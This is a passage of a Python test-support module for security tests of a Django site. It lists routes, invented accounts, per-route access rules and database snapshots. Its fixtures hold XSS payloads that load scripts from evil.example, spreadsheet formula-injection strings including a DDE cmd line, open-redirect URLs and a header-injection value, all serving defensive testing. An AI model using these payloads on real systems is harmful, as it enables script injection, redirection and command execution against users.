"""What the attack tests share: every route of the site, what attackers send, and a page as a browser would parse it."""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator
from copy import copy
from dataclasses import dataclass, field
from datetime import timedelta
from functools import cache
from typing import Any
from urllib.parse import urlsplit

from django.apps import apps
from django.db import connection
from django.db import models as columns
from django.test import Client
from django.test.client import ClientHandler
from django.urls import URLPattern, URLResolver, get_resolver, reverse
from django.utils import timezone
from selectolax.lexbor import LexborHTMLParser

from samsvar.network.consent import Ground, Purpose, Visibility
from samsvar.network.people import Field
from samsvar.network.rights import Claim, Role
from samsvar.site.convention.actions import load_convention
from samsvar.site.meetings.models import OpenToTalk
from samsvar.site.monitoring import models as monitoring
from samsvar.site.network import models
from samsvar.site.shell.uploads import store_private
from tests.factories.funding import make_activity
from tests.factories.meetings import (
    make_aftermath,
    make_contribution,
    make_guest,
    make_meeting,
    make_session,
    published,
)
from tests.factories.people import join, make_account, make_network, make_person, sign_in
from tests.factories.reports import make_report


@dataclass(frozen=True, slots=True)
class Route:
    """One address of the site, as its pattern names it."""

    name: str  # with its namespaces; the pattern itself where nobody named it
    pattern: str
    parameters: tuple[str, ...]
    view: Callable[..., Any]

    def address(self, **kwargs: Any) -> str:
        """Where it is, in English; for the few without a name, which have no parameters, the pattern is the address."""
        return reverse(self.name, kwargs=kwargs) if self.name != self.pattern else f"/{self.pattern}"


def routes() -> list[Route]:
    """Every route of the site, through all `include`s."""
    return sorted(_walk(get_resolver(), "", "", ()), key=lambda route: route.name)


def _walk(resolver: URLResolver, names: str, before: str, above: tuple[str, ...]) -> Iterator[Route]:
    for one in resolver.url_patterns:
        pattern = before + str(one.pattern)
        parameters = (*above, *one.pattern.converters, *_groups(one))
        if isinstance(one, URLResolver):
            inside = f"{names}{one.namespace}:" if one.namespace else names
            yield from _walk(one, inside, pattern, parameters)
        elif isinstance(one, URLPattern):
            yield Route(f"{names}{one.name}" if one.name else pattern, pattern, parameters, one.callback)


def _groups(one: Any) -> tuple[str, ...]:
    regex = getattr(one.pattern, "regex", None)
    known = one.pattern.converters
    return tuple(name for name in regex.groupindex if name not in known) if regex is not None else ()


# --- What attackers write into fields ---------------------------------------------------------------------------------

MARKER = "zqxss"  # in every payload: the word by which it is found again on a page

# Each tries to become an element, an attribute or a handler; from public collections of what has worked somewhere.
PAYLOADS = tuple(
    payload.replace("MARK", MARKER)
    for payload in (
        "<script>MARK()</script>",
        "<SCRIPT SRC=//evil.example/MARK.js></SCRIPT>",
        "<img src=x onerror=MARK()>",
        "<img src=x onerror='MARK()'//",
        '"><img src=x onerror=MARK()>',
        "'><img src=x onerror=MARK()>",
        '" onmouseover="MARK()" x="',
        "' onmouseover='MARK()' x='",
        '" autofocus onfocus=MARK() x="',
        "x onfocus=MARK() autofocus",
        "` onfocus=`MARK()`",
        "<svg onload=MARK()>",
        "<svg/onload=MARK()>",
        "<svg><script>MARK()</script></svg>",
        "<svg><animate onbegin=MARK() attributeName=x dur=1s>",
        "<math><mi xlink:href='javascript:MARK()'>x</mi></math>",
        "<a href='javascript:MARK()'>x</a>",
        "javascript:MARK()",
        "JaVaScRiPt:MARK()",
        "java\tscript:MARK()",
        "data:text/html,<script>MARK()</script>",
        "data:text/html;base64,PHNjcmlwdD56cXhzcygpPC9zY3JpcHQ+#MARK",
        "vbscript:MARK()",
        "</title><script>MARK()</script>",
        "</textarea><script>MARK()</script>",
        "</script><script>MARK()</script>",
        "</style><script>MARK()</script>",
        "--><script>MARK()</script><!--",
        "]]><script>MARK()</script>",
        "<!--<img src='--><img src=x onerror=MARK()>'>",
        "<iframe srcdoc='<script>MARK()</script>'></iframe>",
        "<iframe src=javascript:MARK()></iframe>",
        "<object data=javascript:MARK()></object>",
        "<embed src=javascript:MARK()>",
        "<base href=//evil.example/MARK/>",
        "<meta http-equiv=refresh content='0;url=javascript:MARK()'>",
        "<link rel=stylesheet href=//evil.example/MARK.css>",
        "<style>@import '//evil.example/MARK';</style>",
        "<form action=//evil.example/MARK><button>x</button></form>",
        "<button formaction=javascript:MARK()>x</button>",
        "<input onfocus=MARK() autofocus>",
        "<details open ontoggle=MARK()>x</details>",
        "<video><source onerror=MARK()></video>",
        "<body onload=MARK()>",
        "<marquee onstart=MARK()>x</marquee>",
        "<div style='background:url(javascript:MARK())'>x</div>",
        "<template><script>MARK()</script></template>",
        "<noscript><p title='</noscript><img src=x onerror=MARK()>'>",
        "<x hx-get=//evil.example/MARK hx-trigger=load>x</x>",
        "<x data-hx-on:load=MARK()>x</x>",
        "&lt;script&gt;MARK()&lt;/script&gt;",
        "&#60;script&#62;MARK()&#60;/script&#62;",
        "\\u003cscript\\u003eMARK()\\u003c/script\\u003e",
        "%3Cscript%3EMARK()%3C/script%3E",
        "＜script＞MARK()＜/script＞",
        "<\u202escript>MARK()</script>",
        "<scr\u200bipt>MARK()</scr\u200bipt>",
        "{{ MARK }}{% load x %}",
        "{{ 7|add:MARK }}",
        "${MARK}#{MARK}<%= MARK %>",
        "[MARK](javascript:MARK())",
    )
)

# One payload that tries every place on a page at once: text, attribute, script, style, comment, title, textarea, link.
EVERYWHERE = (
    f"javascript:{MARKER}()//\"'></title></textarea></style></script></noscript>-->"
    f"<img src=x onerror={MARKER}()><svg onload={MARKER}()>\" onfocus={MARKER}() autofocus x='{MARKER}"
)

# What a spreadsheet takes for a formula, or for the start of one.
FORMULAS = tuple(
    formula.replace("MARK", MARKER)
    for formula in (
        '=HYPERLINK("//evil.example/MARK")',
        "=cmd|'/C calc'!MARK",
        "+MARK+1",
        "-MARK+1",
        "@SUM(MARK)",
        "\t=MARK",
        "\r=MARK",
        "\n=MARK",
        ";=MARK",
        ",=MARK",
        '"=MARK',
        "'=MARK",
        " =MARK",
        "＝MARK",
        "％MARK",
    )
)

# Where attackers want a visitor to be led to, all of them elsewhere or no place at all.
ELSEWHERE = (
    "https://evil.example/",
    "//evil.example/",
    "///evil.example/",
    "////evil.example/",
    "/\\evil.example/",
    "\\\\evil.example",
    "/\t/evil.example/",
    "/\n/evil.example",
    "https:evil.example",
    "https:/evil.example",
    "http:///evil.example",
    "javascript:alert(1)",
    "data:text/html,x",
    "//evil.example\\@testserver/",
    "https://testserver@evil.example/",
    "https://testserver.evil.example/",
    "//testserver:80@evil.example",
    "https://evil.example#testserver",
    " //evil.example",
    "/%09/evil.example\r\nSet-Cookie: a=b",
    "ftp://evil.example/",
    "//[::1]/",
    "//0/",
)


RUNNING = ("script", "style", "template", "iframe", "object", "embed", "base")  # elements that no text stands in


def dangers(page: str) -> list[str]:
    """What on a page would run something of an attacker's: elements, handlers and addresses that hold the marker."""
    found = []
    tree = LexborHTMLParser(page)
    for node in tree.root.traverse(include_text=False) if tree.root else ():
        for name, value in node.attributes.items():
            value = value or ""
            flat = "".join(value.split()).lower()
            if MARKER in name or (name.startswith("on") or "hx-on" in name) or name in {"srcdoc", "style"}:
                found.append(f"<{node.tag} {name}={value!r}>")
            elif MARKER in flat and (
                flat.startswith(("javascript:", "vbscript:", "data:")) or urlsplit(flat).netloc.endswith("evil.example")
            ):
                if name in {"href", "src", "action", "formaction", "data", "xlink:href", "hx-get", "hx-post"}:
                    found.append(f"<{node.tag} {name}={value!r}>")
        if node.tag in {"script", "style", "template", "iframe", "object", "embed", "base"} and MARKER in (
            node.html or ""
        ):
            found.append(f"<{node.tag}> holds the marker")
        if MARKER in (node.tag or ""):
            found.append(f"<{node.tag}>")
    return found


# --- A world with something to steal ----------------------------------------------------------------------------------


@dataclass(slots=True)
class World:
    """Two networks; somebody with everything that is theirs alone, the staff of both, and those who would like it."""

    clients: dict[str, Client]  # each signed in as far as their role goes; "nobody" is not
    accounts: dict[str, models.Account]
    ids: dict[str, Any]  # the ids of what belongs to "owner", by its kind


# Who comes. "owner" has everything; "fellow" is in the same network, "desk" is another country's, "abroad" is the
# secretariat of another network. Those with a staff role have their second factor, and an open staff session.
STAFF = ("secretariat", "abroad", "administrator", "auditor")
PEOPLE = ("nobody", "reader", "editor", "fellow", "desk", "organiser", *STAFF, "owner", "member")

# A passkey's public half as a browser registers it, made for these tests; the private half was kept nowhere.
PASSKEY = {
    "id": "eHh4eHh4eHh4eHh4eHh4eA",
    "rawId": "eHh4eHh4eHh4eHh4eHh4eA",
    "type": "public-key",
    "response": {
        "clientDataJSON": (
            "eyJ0eXBlIjogIndlYmF1dGhuLmNyZWF0ZSIsICJjaGFsbGVuZ2UiOiAiQUFBQSIsICJvcmlnaW4iOiAiaHR0cHM6Ly90ZXN0c2VydmVyIn0"
        ),
        "attestationObject": (
            "o2NmbXRkbm9uZWdhdHRTdG10oGhhdXRoRGF0YViU69q3JHqY58lN6TBm0kw4r9mgyimONoS0ersRMfzJ8gBFAAAAAAAAAAAAAAAAAAAA"
            "AAAAAAAAEHh4eHh4eHh4eHh4eHh4eHilAQIDJiABIVggW-XyLfRNoVN8VB-kJrOdc8YGSyqwOUtK8kRgY68iLYoiWCD0dsjMIlu1SnzQ"
            "vverbqOK3SVnZoBKrwK26o34jQ0l4A"
        ),
    },
}
SECRET = "+47 555 01 23"  # of the owner, for the secretariat alone


def browser(session_of: Client | None = None, *, checks: bool = False, **environ: Any) -> Client:
    """A new browser, with the cookies of another if one is given; all of them reach one Django.

    To build the chain of middleware for every browser takes longer than most answers.
    """
    made = Client(enforce_csrf_checks=checks, **environ)
    made.handler = _django(checks)
    if session_of is not None:
        made.cookies = copy(session_of.cookies)
    return made


@cache
def _django(checks: bool) -> ClientHandler:
    return ClientHandler(enforce_csrf_checks=checks)


def make_world() -> World:
    """The world of the attack tests, all of it invented."""
    load_convention()
    here, there = make_network("lantern"), make_network("harbour")
    accounts = {
        "reader": make_account(Role.READER),
        "editor": make_account(Role.EDITOR),
        "fellow": make_account(Role.READER),
        "desk": make_account(Role.NATIONAL_DESK, state="XB"),
        "organiser": make_account(Role.ORGANISER, meeting="spring"),
        "secretariat": make_account(Role.SECRETARIAT, network=here),
        "abroad": make_account(Role.SECRETARIAT, network=there),
        "administrator": make_account(Role.ADMINISTRATOR),
        "auditor": make_account(Role.AUDITOR),
        "owner": make_account(Role.READER, Role.EDITOR),
        "member": make_account(Role.READER),
    }
    owner = accounts["owner"]
    consents = (Purpose.DIRECTORY, Purpose.CONTACT)
    persons = {
        name: make_person(
            account=accounts[name],
            visibility=Visibility.SIGNED_IN,
            consents=consents,
            details={Field.NAME: f"Invented {name.title()}", Field.TITLE: "of the tests"},
        )
        for name in ("owner", "member", "fellow")
    }
    for person in persons.values():
        join(here, person)
    models.Detail.objects.create(person=persons["owner"], field=Field.TELEPHONE, value=SECRET)
    join(there, make_person(account=accounts["reader"]))
    without_account = make_person(details={Field.NAME: "Invented Newcomer"})
    join(here, without_account)
    report = make_report()
    upload = monitoring.Upload.objects.create(
        uploaded_by=owner, content_hash="0" * 64, filename="unpublished.pdf", size=1, body="grevio", progress="refused"
    )
    waiting = models.Ask.objects.create(by=owner, to=persons["member"], network=here, subject="A question")
    forwarded = models.Ask.objects.create(
        by=owner,
        to=persons["member"],
        network=here,
        subject="A question that was forwarded",
        progress=models.Ask.Progress.FORWARDED,
        handled_by=accounts["secretariat"],
        handled_at=timezone.now(),
    )
    for ask in (waiting, forwarded):
        models.AskLine.objects.create(ask=ask, side="asker", text="What the owner asks")
    invitation = models.Invitation.objects.create(
        token_hash="1" * 64,
        email="invited@network.example",
        network=here,
        invited_by=accounts["secretariat"],
        expires_at=timezone.now() + timedelta(days=3),
    )
    refusal = models.Refusal.objects.create(
        account=owner, claim=Claim.CONTRIBUTE, since=timezone.now(), reason="for a test of attacks"
    )
    organisation = models.Organisation.objects.create(
        public_id="lamp-house", name="Lamp House", kind="shelter_ngo", state_id="XA", invented=True
    )
    seat = models.Seat.objects.create(network=here, organisation=organisation)
    basis = models.Basis.objects.create(
        person=persons["owner"],
        purpose=Purpose.MEETINGS,
        ground=Ground.PUBLIC_TASK,
        since=timezone.now(),
        note="a duty",
    )
    money = make_activity()
    spring = make_meeting(public_id="spring", network=here)
    paper = spring.documents.create(
        title={"en": "For organisers"},
        access="organisers",
        content_hash=store_private(b"samsvar meeting document\nFor organisers."),
        filename="a.txt",
        format="text",
        size=15,
    )
    body = spring.organisations.create(organisation=organisation, role="host")
    link = spring.links.create(kind="article", key="20")
    duty = spring.duties.create(account=accounts["member"], kind="review", until=timezone.now() + timedelta(days=1))
    talk = make_session(spring)
    published(spring, by=accounts["organiser"])
    promise, asked_of_all = make_aftermath(spring, session=talk, person=persons["member"])
    contribution = make_contribution(spring, account=owner, person=persons["owner"])
    guest = spring.invitations.create(
        email="guest@network.example", token_hash="2" * 64, expires_at=timezone.now() + timedelta(days=9)
    )
    delegation = spring.delegations.create(state_id="XA", places=2, head=persons["member"], token_hash="3" * 64)
    question = spring.questions.create(text={"en": "What do you eat?"}, delete_on="2099-01-01")
    registration = spring.registrations.create(person=persons["owner"], standing="confirmed", token_hash="4" * 64)
    asker = make_guest(spring)
    willing = make_guest(spring, account=make_account())  # who can be written to: others are not offered
    OpenToTalk.objects.create(registration=willing)
    encounter = spring.encounters.create(asker=asker, asked=registration, about="something private")
    letter = spring.issued.create(code="SPRN-GSPR-NGSP", registration=registration, kind="visa", language="en")
    picture = store_private(b"a face that the tests invented")
    models.Photograph.objects.create(
        person=persons["owner"], content_hash=picture, format="webp", width=640, height=640
    )
    models.Detail.objects.create(
        person=persons["owner"], field=Field.PHOTOGRAPH, value=picture, visibility=Visibility.SIGNED_IN
    )
    passkey = apps.get_model("mfa", "Authenticator").objects.create(
        user=owner, type="webauthn", data={"name": "The owner’s passkey", "credential": PASSKEY}
    )
    clients = {"nobody": browser()}
    for name, account in accounts.items():
        reason = "the tests of attacks" if name in {"secretariat", "abroad", "administrator"} else ""
        clients[name] = _confirmed(sign_in(browser(), account, staff_session=reason))
    session = apps.get_model("usersessions", "UserSession").objects.create(
        user=owner, ip="127.0.0.1", session_key=clients["owner"].session.session_key, user_agent="The owner’s browser"
    )
    ids = {
        "person": persons["owner"].public_id,
        "member": persons["member"].public_id,
        "without_account": without_account.public_id,
        "account": owner.public_id,
        "report": report.public_id,
        "finding": report.findings.first().public_id,
        "upload": upload.pk,
        "waiting": waiting.public_id,
        "forwarded": forwarded.public_id,
        "invitation": invitation.public_id,
        "grant": owner.grants.first().pk,
        "refusal": refusal.pk,
        "passkey": passkey.pk,
        "session": session.pk,
        "membership": persons["owner"].memberships.get().public_id,
        "network": here.slug,
        "organisation": organisation.public_id,
        "seat": seat.pk,
        "basis": basis.pk,
        "activity": money.activity.slug,
        "money": money.pk,
        "meeting": spring.public_id,
        "meeting_document": paper.public_id,
        "meeting_body": body.pk,
        "meeting_link": link.pk,
        "meeting_duty": duty.pk,
        "contribution": contribution.public_id,
        "meeting_session": talk.public_id,
        "promise": promise.public_id,
        "survey_question": asked_of_all.pk,
        "meeting_guest": guest.public_id,
        "delegation": delegation.public_id,
        "question": question.public_id,
        "registration": registration.public_id,
        "willing": willing.public_id,
        "encounter": encounter.public_id,
        "letter": letter.code,
    }
    return World(clients, accounts, ids)


def _confirmed(client: Client) -> Client:
    """A browser in which the password was asked for once more just now: nothing is left to stop it but rights."""
    session = client.session
    session["account_authentication_methods"] = [
        {**record, "reauthenticated": True} for record in session["account_authentication_methods"]
    ]
    session.save()
    return client


@dataclass(frozen=True, slots=True)
class Row:
    """What stands behind a route with an id: which object of the world, and to whom it may answer."""

    ids: dict[str, str]  # parameter of the route: kind of id in the world, or "=value" for a fixed one
    rightful: str = ""  # who certainly may: the proof that there is something to steal; "" for what is everybody's
    also: frozenset[str] = field(default_factory=frozenset)  # who else may


EVERYBODY = frozenset(PEOPLE)
SIGNED_IN = EVERYBODY - {"nobody"}
READERS = SIGNED_IN - {"administrator", "auditor"}  # of the directory


def _open(**ids: str) -> Row:
    return Row(ids, also=EVERYBODY)


def _of(rightful: str, *also: str, **ids: str) -> Row:
    return Row(ids, rightful, frozenset(also))


# Every route with an id. A new one without a row fails a test, and so does a row without its route.
ROWS: dict[str, Row] = {
    # everybody's: what was published
    "files:cite": _open(public_id="finding", form="=bib"),
    "files:page-picture": _open(public_id="report", page="=1"),
    "files:report": _open(public_id="report"),
    "monitoring:finding": _open(public_id="finding"),
    "monitoring:report": _open(public_id="report"),
    "monitoring:text": _open(public_id="report"),
    "pages:article": _open(number="=7"),
    "pages:country": _open(code="=xa"),
    "openid_connect_login": _open(provider_id="=nobody"),
    "openid_connect_callback": _open(provider_id="=nobody"),
    "network:network": _open(slug="network"),
    "network:network-feed": _open(slug="network"),
    "network:network-people-csv": _open(slug="network"),
    "network:network-people-json": _open(slug="network"),
    "network:organisation": _open(public_id="organisation"),
    "meetings:meeting": _open(slug="meeting"),
    "meetings:countries": _open(slug="meeting"),
    "meetings:documents": _open(slug="meeting"),
    # the organiser's, of this meeting
    "meetings:document": _of("organiser", slug="meeting", public_id="meeting_document"),
    "meetings:manage": _of("organiser", slug="meeting"),
    "meetings:edit-meeting": _of("organiser", slug="meeting"),
    "meetings:cancel-meeting": _of("organiser", slug="meeting"),
    "meetings:open-registration": _of("organiser", slug="meeting"),
    "meetings:manage-around": _of("organiser", slug="meeting"),
    "meetings:remove-body": _of("organiser", slug="meeting", pk="meeting_body"),
    "meetings:remove-link": _of("organiser", slug="meeting", pk="meeting_link"),
    "meetings:manage-documents": _of("organiser", slug="meeting"),
    "meetings:withdraw-document": _of("organiser", slug="meeting", public_id="meeting_document"),
    "meetings:manage-helpers": _of("organiser", slug="meeting"),
    "meetings:end-duty": _of("organiser", slug="meeting", pk="meeting_duty"),
    "meetings:register": _open(slug="meeting"),
    "meetings:invitation": _open(slug="meeting", token="=wrong"),
    "meetings:registration-link": _open(slug="meeting", token="=wrong"),
    "meetings:delegation": _open(slug="meeting", token="=wrong"),
    "meetings:mine-registration": _of("owner", slug="meeting"),
    "meetings:my-delegation": _of("member", slug="meeting", public_id="delegation"),
    "meetings:manage-invitations": _of("organiser", slug="meeting"),
    "meetings:invite-again": _of("organiser", slug="meeting", public_id="meeting_guest"),
    "meetings:withdraw-invitation": _of("organiser", slug="meeting", public_id="meeting_guest"),
    "meetings:manage-delegations": _of("organiser", slug="meeting"),
    "meetings:write-to-head": _of("organiser", slug="meeting", public_id="delegation"),
    "meetings:end-naming": _of("organiser", slug="meeting", public_id="delegation"),
    "meetings:change-delegation": _of("organiser", slug="meeting", public_id="delegation"),
    "meetings:manage-registrations": _of("organiser", slug="meeting"),
    "meetings:export-registrations": _of("organiser", slug="meeting"),
    "meetings:set-quota": _of("organiser", slug="meeting"),
    "meetings:remove-quota": _of("organiser", slug="meeting"),
    "meetings:manage-questions": _of("organiser", slug="meeting"),
    "meetings:change-question": _of("organiser", slug="meeting", public_id="question"),
    "meetings:remind-of-questions": _of("organiser", slug="meeting"),
    "meetings:move-question": _of("organiser", slug="meeting", public_id="question"),
    "meetings:remove-question": _of("organiser", slug="meeting", public_id="question"),
    "meetings:registration-summary": _of("organiser", slug="meeting"),
    "meetings:register-group": _of("organiser", slug="meeting"),
    "meetings:manage-registration": _of("organiser", slug="meeting", public_id="registration"),
    # the days: who stands at the door, who has a place, and one's own
    "meetings:letter": _open(code="letter"),
    "meetings:manage-day": _of("organiser", slug="meeting"),
    "meetings:walk-in": _of("organiser", slug="meeting"),
    "meetings:look-at-walk-in": _of("organiser", slug="meeting"),
    "meetings:manage-letters": _of("organiser", slug="meeting"),
    "meetings:revoke-letter": _of("organiser", slug="meeting", code="letter"),
    "meetings:badges": _of("organiser", slug="meeting"),
    "meetings:photographs": _of("organiser", slug="meeting"),
    "meetings:my-letters": _of("owner", slug="meeting"),
    "meetings:check-in": _of("organiser", slug="meeting"),
    "meetings:check-somebody-in": _of("organiser", slug="meeting"),
    "meetings:undo-check-in": _of("organiser", slug="meeting"),
    "meetings:check-in-people": _of("organiser", slug="meeting"),
    "meetings:merge-check-ins": _of("organiser", slug="meeting"),
    "meetings:check-in-worker": _of("organiser", slug="meeting"),
    "meetings:now": _open(slug="meeting"),
    "meetings:now-events": _open(slug="meeting"),
    "meetings:my-calendar": _open(slug="meeting", token="=wrong"),
    "meetings:my-schedule": Row({"slug": "meeting"}, also=SIGNED_IN),
    "meetings:make-calendar": Row({"slug": "meeting"}, also=SIGNED_IN),
    "meetings:choose-session": Row({"slug": "meeting", "verb": "=choose"}, also=SIGNED_IN),
    "meetings:schedule-by-link": _open(slug="meeting", token="=wrong"),
    "meetings:make-calendar-by-link": _open(slug="meeting", token="=wrong"),
    "meetings:choose-by-link": _open(slug="meeting", token="=wrong", verb="=choose"),
    "meetings:one-to-one": _of("owner", slug="meeting"),
    "meetings:open-to-talk": _of("owner", slug="meeting"),
    "meetings:ask-to-talk": _of("owner", slug="meeting", asked="willing"),
    "meetings:answer-to-talk": _of("owner", slug="meeting", public_id="encounter", verb="=accept"),
    "meetings:manage-hours": _of("organiser", slug="meeting"),
    "meetings:remove-hours": _of("organiser", slug="meeting"),
    # the programme: everybody's once it is published, and made by whoever runs the meeting
    "meetings:programme": _open(slug="meeting"),
    "meetings:versions": _open(slug="meeting"),
    "meetings:versions-feed": _open(slug="meeting"),
    "meetings:session": _open(slug="meeting", session="meeting_session"),
    "meetings:speakers": _open(slug="meeting"),
    "meetings:speaking": _open(slug="meeting", token="=wrong"),
    "meetings:schedule-ics": _open(slug="meeting"),
    "meetings:schedule-json": _open(slug="meeting"),
    "meetings:schedule-xml": _open(slug="meeting"),
    "meetings:manage-programme": _of("organiser", slug="meeting"),
    "meetings:manage-grid": _of("organiser", slug="meeting"),
    "meetings:manage-places": _of("organiser", slug="meeting"),
    "meetings:remove-place": _of("organiser", slug="meeting"),
    "meetings:manage-availability": _of("organiser", slug="meeting"),
    "meetings:forget-availability": _of("organiser", slug="meeting"),
    "meetings:publish-programme": _of("organiser", slug="meeting"),
    "meetings:new-session": _of("organiser", slug="meeting"),
    "meetings:edit-session": _of("organiser", slug="meeting", session="meeting_session"),
    "meetings:move-session": _of("organiser", slug="meeting", session="meeting_session"),
    "meetings:copy-session": _of("organiser", slug="meeting", session="meeting_session"),
    "meetings:cancel-session": _of("organiser", slug="meeting", session="meeting_session"),
    "meetings:remove-session": _of("organiser", slug="meeting", session="meeting_session"),
    "meetings:session-people": _of("organiser", slug="meeting", session="meeting_session"),
    # what came of it: everybody's once it is said to be, and recorded by whoever runs the meeting
    "meetings:what-came": _open(slug="meeting"),
    "meetings:commitment": _open(public_id="promise"),
    "meetings:how-it-goes": _open(token="=wrong"),
    "meetings:how-this-goes": _open(token="=wrong", public_id="promise"),
    "meetings:participants": _open(slug="meeting"),
    "meetings:manage-outcomes": _of("organiser", slug="meeting"),
    **{
        f"meetings:{name}": _of("organiser", slug="meeting", public_id="meeting_session")
        for name in ("record", "outcomes-screen", "show-outcomes", "close-record")
    },
    **{
        f"meetings:{name}": _of("organiser", slug="meeting", public_id="promise")
        for name in ("correct-outcome", "strike-outcome", "who-is-asked", "publish-outcome")
    },
    "meetings:survey": _of("owner", slug="meeting"),
    "meetings:survey-by-link": _open(slug="meeting", token="=wrong"),
    "meetings:manage-survey": _of("organiser", slug="meeting"),
    "meetings:remove-survey-question": _of("organiser", slug="meeting", question="survey_question"),
    "meetings:manage-report": _of("organiser", slug="meeting"),
    "meetings:report-docx": _of("organiser", slug="meeting"),
    "meetings:report-pdf": _of("organiser", slug="meeting"),
    # contributions: the author's, those who review them, those who run the meeting
    "meetings:call": _open(slug="meeting"),
    "meetings:offer": _open(slug="meeting"),
    "meetings:offer-by-link": _open(slug="meeting", token="=wrong"),
    "meetings:my-contribution": _of("owner", slug="meeting", public_id="contribution"),
    "meetings:review-contributions": _of("organiser", "member", slug="meeting"),
    "meetings:review-contribution": _of("organiser", "member", slug="meeting", public_id="contribution"),
    "meetings:manage-contributions": _of("organiser", slug="meeting"),
    "meetings:decide-contribution": _of("organiser", slug="meeting", public_id="contribution"),
    "meetings:manage-exchange": _of("organiser", slug="meeting"),
    "meetings:take-in": _of("organiser", slug="meeting"),
    "meetings:take-out": _of("organiser", slug="meeting", form="=schedule.xml"),
    # opened by a secret in the address and by nothing else: a wrong one opens nothing (tests of accounts)
    "account_confirm_email": _open(key="=wrong"),
    "account_reset_password_from_key": _open(uidb36="=1", key="=wrong"),
    "network:open-invitation": _open(token="=wrong"),
    # one's own
    "monitoring:review": _of("editor", "owner", public_id="finding"),
    "monitoring:upload-progress": _of("owner", upload="upload"),
    "mfa_edit_webauthn": _of("owner", pk="passkey"),
    "mfa_remove_webauthn": _of("owner", pk="passkey"),
    "network:end-session": _of("owner", pk="session"),
    "network:my-ask": _of("owner", "member", public_id="forwarded"),
    "network:decline-to-answer": _of("member", "owner", public_id="forwarded"),
    "network:close-ask": _of("owner", "member", public_id="forwarded"),
    "network:entry-preview": _of("owner", *SIGNED_IN, seen_as="=network"),
    "network:give-consent": _of("owner", *SIGNED_IN, purpose="=directory"),
    "network:withdraw-consent": _of("owner", *SIGNED_IN, purpose="=directory"),
    # what a person shows to whom the directory is open to
    "network:person": _of("fellow", *READERS, public_id="person"),
    "network:photograph": _of("fellow", *READERS, public_id="person"),
    "network:ask": _of("fellow", *READERS, public_id="member"),
    # the secretariat's, of this network
    "network:ask-to-decide": _of("secretariat", public_id="waiting"),
    "network:forward-ask": _of("secretariat", public_id="waiting"),
    "network:decline-ask": _of("secretariat", public_id="waiting"),
    "network:ask-back": _of("secretariat", public_id="waiting"),
    "network:invite-again": _of("secretariat", "administrator", public_id="invitation"),
    "network:withdraw-invitation": _of("secretariat", "administrator", public_id="invitation"),
    "network:erase-person": _of("secretariat", "administrator", public_id="person"),
    "network:network-members": _of("secretariat", slug="network"),
    "network:add-member": _of("secretariat", slug="network"),
    "network:export-members": _of("secretariat", slug="network"),
    "network:network-seats": _of("secretariat", slug="network"),
    "network:end-seat": _of("secretariat", slug="network", seat="seat"),
    "network:end-term": _of("secretariat", public_id="membership"),
    "network:manage-person": _of("secretariat", public_id="person"),
    "network:invite-person": _of("secretariat", public_id="without_account"),
    "network:set-risk": _of("secretariat", public_id="person"),
    "network:record-basis": _of("secretariat", public_id="person"),
    "network:end-basis": _of("secretariat", public_id="person", basis="basis"),
    "network:remove-photograph-of": _of("secretariat", public_id="person"),
    "network:appoint": _of("secretariat", public_id="person", slug="network"),
    "funding:activity": _open(slug="activity"),
    "funding:activity-iati": _open(slug="activity"),
    "funding:table": _open(form="=csv"),
    **{
        f"funding:{name}": _of("secretariat", "abroad", "administrator", slug="activity")
        for name in ("edit", "add-money", "add-result", "add-link")
    },
    "funding:change-part": _of("secretariat", "abroad", "administrator", slug="activity", what="=money", pk="money"),
    "funding:remove": _of("secretariat", "abroad", "administrator", slug="activity", what="=money", pk="money"),
    "network:edit-organisation": _of("secretariat", public_id="organisation"),
    # the administrator's
    "network:edit-network": _of("administrator", slug="network"),
    "network:account-rights": _of("administrator", public_id="account"),
    "network:give-role": _of("administrator", public_id="account"),
    "network:end-role": _of("administrator", public_id="account", grant="grant"),
    "network:refuse-claim": _of("administrator", public_id="account"),
    "network:end-refusal": _of("administrator", public_id="account", refusal="refusal"),
    "network:deactivate-account": _of("administrator", public_id="account"),
    "network:reactivate-account": _of("administrator", public_id="account"),
    "network:remove-second-factor": _of("administrator", public_id="account"),
    "network:sign-out-everywhere": _of("administrator", public_id="account"),
    # the auditor's
    "network:export-audit-log": _of("auditor", form="=csv"),
}


# What nobody may learn the existence of; a network, an organisation, a report or a finding is public.
SECRET_KINDS = frozenset(
    {
        "person", "member", "without_account", "account", "upload", "waiting", "forwarded", "invitation", "grant",
        "refusal", "passkey", "session", "membership", "basis", "contribution",
    }
)  # fmt: skip


def content_of(answer: Any) -> bytes:
    """The whole body; a streamed one is read to its end, which also closes its file."""
    return b"".join(answer) if answer.streaming else answer.content


def page_of(answer: Any) -> str:
    """The answer's text where a browser would read it as a page; "" for anything else."""
    content = content_of(answer)
    return content.decode() if answer.get("Content-Type", "").startswith(("text/html", "image/svg")) else ""


def address_of(route: Route, world: World) -> str:
    """Where a route is in this world."""
    ids = ROWS[route.name].ids if route.parameters else {}
    return route.address(**{name: id_[1:] if id_.startswith("=") else world.ids[id_] for name, id_ in ids.items()})


# --- What the database holds ------------------------------------------------------------------------------------------

# Not what the site is about: who visited when, and what was noted of it.
PASSING = {
    "sessions.Session", "usersessions.UserSession", "samsvar_audit.Entry", "samsvar_audit.Change",
    "django_tasks_database.DBTaskResult", "contenttypes.ContentType", "auth.Permission", "auth.Group",
}  # fmt: skip
# What is new in every row, whoever writes it: ids by chance, hashes with salt, moments, secrets.
NEW_EACH_TIME = {"id", "public_id", "token_hash", "password", "key", "last_login", "body", "html", "browser", "data"}


def everything(*, but_passing: bool = True) -> dict[str, list[dict[str, Any]]]:
    """Every row of every table, as the database keeps it: what an attack must leave as it was."""
    found = {}
    with connection.cursor() as cursor:
        for label, (names, query) in _queries().items():
            if not (but_passing and label in PASSING):
                cursor.execute(query)
                found[label] = [dict(zip(names, row, strict=True)) for row in cursor.fetchall()]
    return found


@cache
def _queries() -> dict[str, tuple[list[str], str]]:
    """By table: the names of its columns, and the question for all its rows; asked past Django, which takes longer."""
    quote, found = connection.ops.quote_name, {}
    for model in apps.get_models():
        if model._meta.proxy:
            continue
        fields = model._meta.local_concrete_fields
        wanted = ", ".join(quote(field.column) for field in fields)
        query = f"SELECT {wanted} FROM {quote(model._meta.db_table)} ORDER BY {quote(model._meta.pk.column)}"
        found[model._meta.label] = ([field.attname for field in fields], query)
    return found


def difference(
    before: dict[str, list[dict[str, Any]]], after: dict[str, list[dict[str, Any]]]
) -> dict[str, tuple[list[str], list[str]]]:
    """What is gone and what is new, table by table, without what is new each time; {} where nothing changed."""
    found = {}
    there = {table: {row.get(_key_of(table)) for row in rows} for table, rows in before.items()}
